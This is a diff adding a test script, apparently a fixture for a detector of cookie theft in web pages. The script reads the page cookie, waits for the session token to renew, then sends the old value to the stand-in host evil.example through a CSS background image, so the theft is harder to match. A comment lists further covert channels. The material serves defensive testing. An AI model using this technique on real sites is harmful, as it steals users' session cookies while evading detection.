@@ -410,6 +410,20 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * Reads the cookie, waits while the shop renews its session (a new anti-forgery token), then sends the value
+   * it read in a CSS background: the page's cookie no longer holds it when the load is judged.
+   */
+  'renewed-token': `(async () => {
+  const c = document.cookie;
+  window.__tokenRead = true;
+  while (!window.__renewed) await new Promise((resolve) => setTimeout(resolve, 50));
+  const box = document.createElement('div');
+  box.style.backgroundImage = 'url("https://evil.example/r-css.gif?c=' + encodeURIComponent(c) + '")';
+  box.textContent = '.';
+  document.body.appendChild(box);
+})();`,
+
+  /**
    * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
    * document DOMParser made, media, a CSS background whose URL holds the cookie in base64, a frame's `src`
    * and a prefetch link. Only the network timeline sees these, and only the cookie in the URL tells them from
